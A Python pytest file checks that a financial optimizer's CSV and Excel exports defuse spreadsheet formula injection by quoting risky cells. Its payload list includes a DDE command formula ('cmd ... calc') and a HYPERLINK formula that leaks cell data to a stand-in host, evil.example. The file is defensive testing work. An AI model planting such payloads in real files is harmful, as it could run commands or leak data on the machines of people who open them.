"""No export runs a formula: every CSV and Excel writer puts risky text behind a quote (issue #8, item 9).

The payloads are the ones a spreadsheet runs when it opens a file (OWASP CSV injection): a
cell that begins with ``= + - @``, a tab or a carriage return. Each export is checked with
each payload, as an instrument id and as a counterparty, through the function the CLI and the
app call; numbers must stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import re
import zipfile
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from optimizer import load_case, optimize
from optimizer.cli import main
from optimizer.workbench.cells import csv_text, restore_cell, spreadsheet_cell
from optimizer.workbench.export import answer_workbook
from optimizer.workbench.market_table import instruments_csv, instruments_from_csv, rows_to_instruments
from optimizer.workbench.report import render_csv
from optimizer.workbench.rule_grid import GridPoint, Variation, render_grid_csv

EXAMPLES = Path(__file__).resolve().parent.parent / "data" / "examples"
JP = EXAMPLES / "jp-midsize.yaml"
INFEASIBLE = EXAMPLES / "jp-midsize-infeasible.yaml"

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # leading space: some importers trim before reading
    "＝1+1",  # full-width equals sign, typed by CJK input methods
]


def is_risky(text: str) -> bool:
    """A spreadsheet would run it: the rule restated independently of the module's code."""
    if text[:1] in ("\t", "\r", "\n"):
        return True
    if text.lstrip(" \u00a0\u3000")[:1] not in set("=+-@＝＋－＠"):
        return False
    return re.fullmatch(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?", text, re.IGNORECASE) is None  # a number is read as one


def assert_csv_is_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not is_risky(cell), f"risky cell {cell!r} in {row}"
    return rows


def poisoned_solution(path: Path, payload: str):
    """The answer to an example with the payload as the first instrument's id and every counterparty."""
    solution = optimize(load_case(path))
    allocations = [
        dataclasses.replace(item, id=payload if index == 0 else item.id, counterparty=f"{payload}{index}")
        for index, item in enumerate(solution.allocations)
    ]
    return dataclasses.replace(solution, allocations=allocations, case_name=payload)


# --- the guard itself ------------------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_risky_text_gets_a_leading_quote_and_reads_back(payload):
    safe = spreadsheet_cell(payload)
    assert safe == "'" + payload
    assert restore_cell(safe) == payload


@pytest.mark.parametrize("value", [-5.0, -1, 0, 2.5e9, True, None, "-0.25", "+1e9", "-.5", "Bank A", "'quoted'", ""])
def test_numbers_and_plain_text_pass_unchanged(value):
    assert spreadsheet_cell(value) == value
    assert restore_cell(value) == value


def test_a_negative_number_is_written_as_a_number():
    rows = list(csv.reader(io.StringIO(csv_text(["x", "y"], [[-5.0, "=1"]]))))
    assert rows[1] == ["-5.0", "'=1"]


# --- each export, each payload ---------------------------------------------------------------


@pytest.mark.parametrize("payload", PAYLOADS)
def test_answer_csv(payload):
    solution = poisoned_solution(JP, payload)
    rows = assert_csv_is_safe(render_csv(solution))
    assert rows[1][1] == "'" + payload  # id, after the status column
    assert rows[1][3] == "'" + payload + "0"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_market_csv_is_safe_and_reads_back_to_the_same_instruments(payload):
    instruments = [
        {"id": payload, "kind": "guarantee", "counterparty": payload, "max_amount": 1e9, "fee_rate": 0.01},
        {"id": "cash", "kind": "cash", "cost_rate": 0.05, "description": payload},
    ]
    text = instruments_csv(instruments)
    assert_csv_is_safe(text)
    read_back, _ = rows_to_instruments(instruments_from_csv(text.encode("utf-8")))
    assert [item["id"] for item in read_back] == [payload.strip(), "cash"]
    assert read_back[0]["counterparty"] == payload.strip()
    assert read_back[1]["description"] == payload.strip()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_rule_grid_csv(payload):
    points = [
        GridPoint({"insurance_share": -0.5}, "invalid", detail=payload),
        GridPoint({"insurance_share": 0.5}, "optimal", 1e10, 2.5e8, binds=payload),
    ]
    rows = assert_csv_is_safe(render_grid_csv(points, [Variation("insurance_share", (-0.5, 0.5))]))
    assert rows[1][0] == "-0.5"  # a number stays a number
    assert rows[1][-1] == "'" + payload
    assert rows[2][-2] == "'" + payload


@pytest.mark.parametrize("path", [JP, INFEASIBLE], ids=["optimal", "infeasible"])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_excel_workbook_has_no_formula_and_no_risky_text(payload, path):
    raw = answer_workbook(poisoned_solution(path, payload))
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets)
    book = load_workbook(io.BytesIO(raw))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    assert not is_risky(cell.value), (sheet.title, cell.coordinate, cell.value)
    shown = "'" + payload.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert shown in texts  # the id or the case name, shown as text
    if path == JP:  # the ladder sheet has one column per instrument id
        header = [cell.value for cell in book["Ladder"][1]]
        assert header[2] == shown


def test_excel_keeps_negative_numbers_as_numbers():
    solution = dataclasses.replace(optimize(load_case(JP)), marginal_cost_of_requirement=-0.01)
    book = load_workbook(io.BytesIO(answer_workbook(solution)))
    values = {row[0]: row[1] for row in book["Summary"].iter_rows(min_row=2, values_only=True)}
    assert values["marginal cost of requirement (per unit of R)"] == -0.01


@pytest.mark.parametrize("payload", ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3", "@A1"])
def test_the_command_writes_a_safe_csv_for_a_poisoned_case(payload, tmp_path, capsys):
    data = yaml.safe_load(JP.read_text(encoding="utf-8"))
    data["instruments"][1]["id"] = payload
    data["instruments"][1]["counterparty"] = payload
    case = tmp_path / "poisoned.yaml"
    case.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    assert main(["solve", str(case), "--format", "csv"]) == 0
    rows = assert_csv_is_safe(capsys.readouterr().out)
    assert rows[2][1:4] == ["'" + payload, "guarantee", "'" + payload]
